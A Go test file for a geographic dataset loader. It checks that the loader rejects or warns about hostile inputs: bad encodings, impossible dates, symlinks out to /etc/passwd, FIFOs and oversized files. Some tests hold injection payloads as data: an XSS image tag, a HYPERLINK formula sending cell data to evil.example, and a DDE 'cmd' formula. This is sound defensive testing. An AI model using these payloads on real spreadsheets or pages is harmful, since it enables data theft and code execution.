package geo_test

import (
	"errors"
	"io/fs"
	"os"
	"path/filepath"
	"strconv"
	"strings"
	"syscall"
	"testing"
	"testing/fstest"
	"time"

	"github.com/stretchr/testify/assert"
	"github.com/stretchr/testify/require"

	"github.com/frontline/frontline/geo"
	"github.com/frontline/frontline/internal/testkit"
)

// Hostile and careless datasets: each case is reported with its file and
// line or feature and what to do, and every problem of a file is reported.

// loadProblems loads fsys and returns its problems (errors and warnings)
// as strings; the dataset must fail to load when wantErr.
func loadProblems(t *testing.T, fsys fstest.MapFS, wantErr bool) []string {
	t.Helper()
	ds, err := geo.LoadDir(fsys, "small")
	var list []geo.Problem
	if wantErr {
		require.Error(t, err)
		var ve *geo.ValidationError
		require.True(t, errors.As(err, &ve), "error is %T: %v", err, err)
		list = ve.Problems
	} else {
		require.NoError(t, err)
		list = ds.Warnings
	}
	out := make([]string, len(list))
	for i, p := range list {
		out[i] = p.String()
	}
	return out
}

// containsAll asserts that each want is a substring of some problem.
func containsAll(t *testing.T, problems []string, want ...string) {
	t.Helper()
	all := strings.Join(problems, "\n")
	for _, w := range want {
		assert.Contains(t, all, w)
	}
}

func feature(id, props, coords string) string {
	return `{"type":"Feature","id":` + id + `,"properties":` + props + `,"geometry":{"type":"Polygon","coordinates":[` + coords + `]}}`
}

const ring = `[[37.1,36.2],[37.11,36.2],[37.11,36.21],[37.1,36.21],[37.1,36.2]]`

func TestHostileControl(t *testing.T) {
	row := func(date, share, note string) string {
		return header + date + ",north-west,government," + share + ",[1]," + note + "\n" + allOthers
	}
	tests := []struct {
		name    string
		control string
		wantErr bool
		want    []string
	}{
		{"non-UTF-8 note", row("2016-11-15", "1", "S\xe9DF"), true,
			[]string{`small/control.csv:2: error: column note has the byte 0xe9, which is not UTF-8`, "save it as UTF-8"}},
		{"no such day", row("2016-02-30", "1", ""), true,
			[]string{`small/control.csv:2: error: date "2016-02-30": there is no such day: February 2016 has 29 days`}},
		{"no such month", row("2016-13-01", "1", ""), true,
			[]string{`small/control.csv:2: error: date "2016-13-01": there is no month 13`}},
		{"hex share", row("2016-11-15", "0x1p-1", ""), true,
			[]string{`small/control.csv:2: error: share "0x1p-1" is not a number written as a plain decimal`}},
		{"exponent share", row("2016-11-15", "5e-324", ""), true,
			[]string{`small/control.csv:2: error: share "5e-324" is not a number written as a plain decimal`}},
		{"signed share", row("2016-11-15", "+0.5", ""), true, []string{`share "+0.5" is not a number written as a plain decimal`}},
		{"tiny share", row("2016-11-15", "0.0000001", ""), false,
			[]string{`small/control.csv:2: warning: share 0.0000001 is less than 0.001 of the district: check the decimal point`}},
		{"far future", row("9999-12-31", "1", ""), true,
			[]string{`small/control.csv:2: error: date 9999-12-31 is outside 1800-01-01 to 2099-12-31: check the year`}},
		{"far past", row("0016-11-15", "1", ""), true,
			[]string{`small/control.csv:2: error: date 0016-11-15 is outside 1800-01-01 to 2099-12-31: check the year`}},
		{"span of a century", row("1916-11-15", "1", ""), false,
			[]string{`small/control.csv:3: warning: the rows span ` + strconv.Itoa(days("1916-11-15", "2016-11-15")) + ` days, from 1916-11-15 (line 2) to 2016-11-15: check the years`}},
		{"markup in note", row("2016-11-15", "1", "<img src=x onerror=alert(1)>"), false,
			[]string{`small/control.csv:2: warning: the note has markup ("<i")`}},
		{"formula in note", row("2016-11-15", "1", `"=HYPERLINK(""http://evil.example/?x=""&A1,""click"")"`), false,
			[]string{`small/control.csv:2: warning: the note begins with "=", which a spreadsheet would run as a formula: frontline's CSV downloads write it after a single quote`}},
		{"formula in source", header + "2016-11-15,north-west,government,1,+cmd|' /C calc'!A0,\n" + allOthers, false,
			[]string{`small/control.csv:2: warning: the source begins with "+", which a spreadsheet would run as a formula`}},
		{"NUL in note", row("2016-11-15", "1", "a\x00b"), false,
			[]string{`small/control.csv:2: warning: the note has a NUL byte at byte 1`}},
		{"district without rows", header + "2016-11-15,north-west,government,1,[1],\n", false,
			[]string{`small/control.csv: warning: 4 district(s) have no control row and stay unassigned on every date: "north-east", "south-west", "south-east", "islands"`}},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			ps := loadProblems(t, testkit.SmallMapFS(t, map[string]string{geo.ControlFile: tt.control}), tt.wantErr)
			containsAll(t, ps, tt.want...)
		})
	}
}

// days counts the days from a to b, both included.
func days(a, b string) int {
	da, _ := geo.ParseDate(a)
	db, _ := geo.ParseDate(b)
	return int(db-da) + 1
}

// allOthers gives the districts other than north-west a row each.
const allOthers = "2016-11-15,north-east,opposition,1,[1],\n2016-11-15,south-west,government,1,[1],\n" +
	"2016-11-15,south-east,opposition,1,[1],\n2016-11-15,islands,sdf,1,[1],\n"

func TestHostileSides(t *testing.T) {
	ps := loadProblems(t, testkit.SmallMapFS(t, map[string]string{geo.SidesFile: "id,name,color\ngovernment,Gov\xe9rnment,#d62728\nopposition,<b>Opp</b>,#2ca02c\nsdf,SDF\x07,#ffd700\n"}), true)
	containsAll(t, ps,
		`small/sides.csv:2: error: column name has the byte 0xe9, which is not UTF-8`,
		`small/sides.csv:3: warning: side "opposition": the name "<b>Opp</b>" has markup ("<b")`,
		`small/sides.csv:4: warning: side "sdf": the name "SDF\a" has the control character U+0007 at byte 3`)
}

func TestHostileDistricts(t *testing.T) {
	tests := []struct {
		name      string
		districts string
		wantErr   bool
		want      []string
		notWant   []string
	}{
		{"non-UTF-8 name", "{\"type\":\"FeatureCollection\",\n\"features\":[\n" + feature(`"north-west"`, "{\"name\":\"S\xe9DF\"}", ring) + "]}", true,
			[]string{`small/districts.geojson:3: error: the byte 0xe9 is not UTF-8`}, nil},
		{"crs that does not match the coordinates", `{"type":"FeatureCollection","crs":{"type":"name","properties":{"name":"EPSG:32637"}},"features":[` +
			feature(`"north-west"`, `{}`, ring) + `]}`, true,
			[]string{`feature #0 ("north-west"): error: position [37.1, 36.2] in EPSG:32637 becomes lon 34.5`,
				`outside the area where EPSG:32637 (WGS 84 / UTM zone 37N) is used (lon 36 to 42, lat 0 to 84`,
				`the coordinates look like WGS84 lon/lat degrees already; remove the "crs" member`}, nil},
		{"latitude 95", collection(feature(`"north-west"`, `{}`, `[[37.1,36.2],[37.11,95],[37.11,36.21],[37.1,36.2]]`)), true,
			[]string{`error: coordinate [37.11, 95]: latitude 95 is out of range [-90, 90]`}, []string{"projected"}},
		{"latitude 1e308", collection(feature(`"north-west"`, `{}`, `[[37.1,36.2],[37.11,1e308],[37.11,36.21],[37.1,36.2]]`)), true,
			[]string{`error: coordinate [37.11, 1e+308]: latitude 1e+308 is out of range [-90, 90]`}, []string{"projected"}},
		{"longitude 200", collection(feature(`"north-west"`, `{}`, `[[37.1,36.2],[200,36.2],[37.11,36.21],[37.1,36.2]]`)), true,
			[]string{`error: coordinate [200, 36.2]: longitude 200 is out of range [-180, 180]`}, []string{"projected"}},
		{"both 1e308", collection(feature(`"north-west"`, `{}`, `[[37.1,36.2],[1e308,1e308],[37.11,36.21],[37.1,36.2]]`)), true,
			[]string{`error: coordinate [1e+308, 1e+308] is out of range for any coordinate system`}, []string{"projected"}},
		{"duplicate id and a bow-tie", collection(square("north-west", 37.1, 36.2), square("north-west", 37.2, 36.2),
			feature(`"bow"`, `{}`, `[[37.3,36.2],[37.4,36.3],[37.4,36.2],[37.3,36.3],[37.3,36.2]]`)), true,
			[]string{`feature #1 ("north-west"): error: duplicate district id "north-west"`, `feature "bow": error: invalid geometry: Self-intersection`}, nil},
		{"a duplicate that is a bow-tie", collection(square("north-west", 37.1, 36.2),
			feature(`"north-west"`, `{}`, `[[37.3,36.2],[37.4,36.3],[37.4,36.2],[37.3,36.3],[37.3,36.2]]`)), true,
			[]string{`feature #1 ("north-west"): error: duplicate district id`, `feature #1 ("north-west"): error: invalid geometry: Self-intersection`}, nil},
		{"markup in id", collection(feature(`"<img src=x onerror=alert(1)>"`, `{}`, ring)), true,
			[]string{`feature #0 ("<img src=x onerror=alert(1)>"): error: the district id has markup ("<i")`}, nil},
		{"NUL in id", collection(feature(`"a\u0000b"`, `{}`, ring)), true,
			[]string{`feature #0 ("a\x00b"): error: the district id has a NUL byte at byte 1`}, nil},
		{"control character in id", collection(feature(`"a\u001bb"`, `{}`, ring)), true,
			[]string{`error: the district id has the control character U+001B at byte 1`}, nil},
		{"id ..", collection(feature(`".."`, `{}`, ring)), true,
			[]string{`feature #0 (".."): error: the district id ".." is a path step that no URL can name (/api/districts/.. resolves to another path)`}, nil},
		{"id .", collection(feature(`"."`, `{}`, ring)), true,
			[]string{`feature #0 ("."): error: the district id "." is a path step that no URL can name`}, nil},
		{"quote in id", collection(feature(`"a\"b"`, `{}`, ring)), true,
			[]string{`error: the district id has markup characters`}, nil},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			ps := loadProblems(t, testkit.SmallMapFS(t, map[string]string{geo.DistrictsFile: tt.districts}), tt.wantErr)
			containsAll(t, ps, tt.want...)
			for _, nw := range tt.notWant {
				assert.NotContains(t, strings.Join(ps, "\n"), nw)
			}
		})
	}
}

func TestHostileNames(t *testing.T) {
	fc := collection(
		feature(`"north-west"`, `{"name":"<img src=x onerror=alert(1)>"}`, ring),
		feature(`"north-east"`, `{"name":"a\u0000b"}`, `[[37.2,36.2],[37.21,36.2],[37.21,36.21],[37.2,36.21],[37.2,36.2]]`),
		feature(`"south-west"`, `{"name":"Bustan al-Qasr &amp; Kallaseh"}`, `[[37.3,36.2],[37.31,36.2],[37.31,36.21],[37.3,36.21],[37.3,36.2]]`),
		feature(`"south-east"`, `{"name":"Salah ad-Din < Hamdaniyah & Sukkari"}`, `[[37.4,36.2],[37.41,36.2],[37.41,36.21],[37.4,36.21],[37.4,36.2]]`),
		feature(`"islands"`, `{"name":"@Islands"}`, `[[37.5,36.2],[37.51,36.2],[37.51,36.21],[37.5,36.21],[37.5,36.2]]`))
	ps := loadProblems(t, testkit.SmallMapFS(t, map[string]string{geo.DistrictsFile: fc}), false)
	containsAll(t, ps,
		`feature #0 ("north-west"): warning: the name "<img src=x onerror=alert(1)>" has markup ("<i")`,
		`feature #1 ("north-east"): warning: the name "a\x00b" has a NUL byte at byte 1`,
		`feature #2 ("south-west"): warning: the name "Bustan al-Qasr &amp; Kallaseh" has markup ("&amp;")`,
		`feature #4 ("islands"): warning: the name "@Islands" begins with "@", which a spreadsheet would run as a formula`)
	assert.Len(t, ps, 4, "a lone < or & in a name is text, not markup: %q", ps)
}

func TestGeoJSONByteOrderMark(t *testing.T) {
	b := testkit.ReadSmall(t, geo.DistrictsFile)
	ds, err := geo.LoadDir(testkit.SmallMapFS(t, map[string]string{geo.DistrictsFile: "\ufeff" + string(b), geo.MetaFile: "\ufeff{\"title\":\"BOM\"}"}), "small")
	require.NoError(t, err)
	assert.Len(t, ds.Districts, 5)
	assert.Equal(t, "BOM", ds.Meta.Title)
}

func TestNumericIDsKeepTheirText(t *testing.T) {
	for _, tc := range []struct{ id, props, want string }{
		{`1.50`, `{}`, "1.50"},
		{`12345678901234567890123`, `{}`, "12345678901234567890123"},
		{`1e2`, `{}`, "1e2"},
		{`-0`, `{}`, "-0"},
		{`"x"`, `{"id":"y"}`, "x"},
	} {
		t.Run(tc.want, func(t *testing.T) {
			ds, problems := geo.ReadDistricts([]byte(collection(feature(tc.id, tc.props, ring))), "d.geojson", geo.DistrictOptions{})
			require.Empty(t, problems)
			require.Len(t, ds, 1)
			assert.Equal(t, tc.want, ds[0].ID)
		})
	}
	// A numeric id property named by id_property keeps its text too.
	ds, problems := geo.ReadDistricts([]byte(collection(feature(`"f"`, `{"code":7.10}`, ring))), "d.geojson", geo.DistrictOptions{IDProperty: "code"})
	require.Empty(t, problems)
	assert.Equal(t, "7.10", ds[0].ID)
}

// loadWithin loads dir through os.DirFS and through an os.Root, and fails
// the test if loading takes longer than a few seconds: a FIFO or a device
// must be refused, not read.
func loadWithin(t *testing.T, dir string, opt geo.LoadOptions) []string {
	t.Helper()
	root, err := os.OpenRoot(dir)
	require.NoError(t, err)
	defer root.Close()
	var msgs []string
	for _, fsys := range []fs.FS{os.DirFS(dir), root.FS()} {
		done := make(chan error, 1)
		go func() {
			_, err := geo.Load(fsys, "dir", opt)
			done <- err
		}()
		select {
		case err := <-done:
			require.Error(t, err)
			msgs = append(msgs, err.Error())
		case <-time.After(10 * time.Second):
			t.Fatalf("Load did not return within 10 s")
		}
	}
	return msgs
}

func TestNonRegularFilesRefused(t *testing.T) {
	tests := []struct {
		name  string
		setup func(t *testing.T, dir string)
		want  string
	}{
		{"FIFO", func(t *testing.T, dir string) {
			require.NoError(t, syscall.Mkfifo(filepath.Join(dir, geo.ControlFile), 0o644))
		}, "dir/control.csv: error: cannot read: is a named pipe (FIFO), not a regular file"},
		{"link to /dev/zero", func(t *testing.T, dir string) {
			require.NoError(t, os.Symlink("/dev/zero", filepath.Join(dir, geo.ControlFile)))
		}, `dir/control.csv: error: cannot read: is a symbolic link to "/dev/zero", outside the dataset directory`},
		{"link out of the directory", func(t *testing.T, dir string) {
			outside := filepath.Join(t.TempDir(), "passwd")
			require.NoError(t, os.WriteFile(outside, []byte("root:x:0:0:root:/root:/bin/bash\n"), 0o644))
			rel, err := filepath.Rel(dir, outside)
			require.NoError(t, err)
			require.NoError(t, os.Symlink(rel, filepath.Join(dir, geo.SidesFile)))
		}, `dir/sides.csv: error: cannot read: is a symbolic link to "../`},
		{"link through a link inside to outside", func(t *testing.T, dir string) {
			require.NoError(t, os.Symlink("/etc/passwd", filepath.Join(dir, "inner")))
			require.NoError(t, os.Symlink("inner", filepath.Join(dir, geo.MetaFile)))
		}, `dir/dataset.json: error: cannot read: is a symbolic link to "/etc/passwd", outside the dataset directory`},
		{"link through a linked directory", func(t *testing.T, dir string) {
			outside := t.TempDir()
			require.NoError(t, os.WriteFile(filepath.Join(outside, "x.csv"), []byte("id,name,color\n"), 0o644))
			require.NoError(t, os.Symlink(outside, filepath.Join(dir, "sub")))
			require.NoError(t, os.Symlink("sub/x.csv", filepath.Join(dir, geo.SidesFile)))
		}, `dir/sides.csv: error: cannot read: is a symbolic link to "sub/x.csv", through the symbolic link "sub"`},
		{"directory", func(t *testing.T, dir string) {
			require.NoError(t, os.Mkdir(filepath.Join(dir, geo.DistrictsFile), 0o755))
		}, "dir/districts.geojson: error: cannot read: is a directory, not a regular file"},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			dir := testkit.SmallWith(t, nil)
			require.NoError(t, os.Remove(filepath.Join(dir, strings.TrimPrefix(tt.want[:strings.Index(tt.want, ":")], "dir/"))))
			tt.setup(t, dir)
			for _, msg := range loadWithin(t, dir, geo.LoadOptions{}) {
				assert.Contains(t, msg, tt.want)
			}
		})
	}
}

func TestLinkInsideTheDirectoryFollowed(t *testing.T) {
	dir := testkit.SmallWith(t, nil)
	require.NoError(t, os.Rename(filepath.Join(dir, geo.ControlFile), filepath.Join(dir, "control-2016.csv")))
	require.NoError(t, os.Symlink("control-2016.csv", filepath.Join(dir, geo.ControlFile)))
	ds, err := geo.Load(os.DirFS(dir), "dir", geo.LoadOptions{})
	require.NoError(t, err)
	assert.Len(t, ds.Rows, 12)
}

func TestFileSizeLimit(t *testing.T) {
	dir := testkit.SmallWith(t, nil)
	// control.csv grows (blank lines count for nothing) past the others.
	var limit int64
	for _, f := range []string{geo.MetaFile, geo.SidesFile, geo.DistrictsFile} {
		st, err := os.Stat(filepath.Join(dir, f))
		require.NoError(t, err)
		limit = max(limit, st.Size())
	}
	path := filepath.Join(dir, geo.ControlFile)
	b, err := os.ReadFile(path)
	require.NoError(t, err)
	b = append(b, strings.Repeat("\n", int(limit)+1-len(b))...)
	require.NoError(t, os.WriteFile(path, b, 0o644))
	for _, msg := range loadWithin(t, dir, geo.LoadOptions{MaxFileBytes: limit}) {
		assert.Contains(t, msg, "dir/control.csv: error: cannot read: is larger than the limit of "+strconv.FormatInt(limit, 10)+" bytes: raise the limit (--max-file-mb)")
	}
	_, err = geo.Load(os.DirFS(dir), "dir", geo.LoadOptions{MaxFileBytes: limit + 1})
	assert.NoError(t, err, "a file of exactly the limit is accepted")
}

func TestProblemsPerFileAreCapped(t *testing.T) {
	var b strings.Builder
	b.WriteString(header)
	const n = 2500
	for i := range n {
		b.WriteString("2016-11-15,nowhere-" + strconv.Itoa(i) + ",government,1,[1],\n")
	}
	ps := loadProblems(t, testkit.SmallMapFS(t, map[string]string{geo.ControlFile: b.String()}), true)
	require.Len(t, ps, 1001)
	assert.Contains(t, ps[999], `small/control.csv:1001: error: unknown district "nowhere-999"`)
	assert.Equal(t, "small/control.csv: error: 1500 more problem(s) (1500 error(s), 0 warning(s)) are not listed: fix the first 1000 and validate again", ps[1000])
}

func TestWarningsPastTheCapStillFailOnErrors(t *testing.T) {
	// 1000 warnings fill the list; the error after them is not listed but
	// must still fail the dataset.
	var b strings.Builder
	b.WriteString(header)
	d, err := geo.ParseDate("2000-01-01")
	require.NoError(t, err)
	for i := range 1000 {
		b.WriteString(d.AddDays(i).String() + ",north-west,government,0.0001,[1],\n")
	}
	b.WriteString("2016-11-15,nowhere,government,1,[1],\n")
	ps := loadProblems(t, testkit.SmallMapFS(t, map[string]string{geo.ControlFile: b.String()}), true)
	require.Len(t, ps, 1001)
	assert.Contains(t, ps[0], "warning: share 0.0001 is less than 0.001")
	assert.Contains(t, ps[1000], "small/control.csv: error: 1 more problem(s) (1 error(s), 0 warning(s)) are not listed")
}

// growingFS serves files whose Stat reports fewer bytes than they hold,
// like a file that grows while it is read.
type growingFS struct{ fstest.MapFS }

type lyingInfo struct{ fs.FileInfo }

func (lyingInfo) Size() int64 { return 1 }

type lyingFile struct{ fs.File }

func (f lyingFile) Stat() (fs.FileInfo, error) {
	st, err := f.File.Stat()
	return lyingInfo{st}, err
}

func (g growingFS) Open(name string) (fs.File, error) {
	f, err := g.MapFS.Open(name)
	if err != nil {
		return nil, err
	}
	return lyingFile{f}, nil
}

func (g growingFS) Stat(name string) (fs.FileInfo, error) {
	st, err := g.MapFS.Stat(name)
	if err != nil {
		return nil, err
	}
	return lyingInfo{st}, nil
}

func TestFileGrowingPastTheLimit(t *testing.T) {
	fsys := growingFS{testkit.SmallMapFS(t, nil)}
	_, err := geo.Load(fsys, "small", geo.LoadOptions{MaxFileBytes: 100})
	require.Error(t, err)
	assert.Contains(t, err.Error(), "small/control.csv: error: cannot read: is larger than the limit of 100 bytes")
	assert.Contains(t, err.Error(), "small/districts.geojson: error: cannot read: is larger than the limit of 100 bytes")
}
